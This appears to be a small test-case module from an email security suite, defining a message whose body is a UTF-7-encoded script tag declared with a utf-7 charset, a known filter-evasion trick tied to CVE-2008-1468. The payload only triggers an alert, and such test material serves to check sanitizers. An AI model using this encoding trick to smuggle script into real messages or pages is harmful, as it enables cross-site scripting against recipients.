import { mail } from '../attack.mjs';

/** Hides markup in UTF-7. Source: CVE-2008-1468; WHATWG Encoding. */
export default mail({
  sent: 1,
  head: { 'Content-Type': 'text/html; charset=utf-7' },
  body: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
});
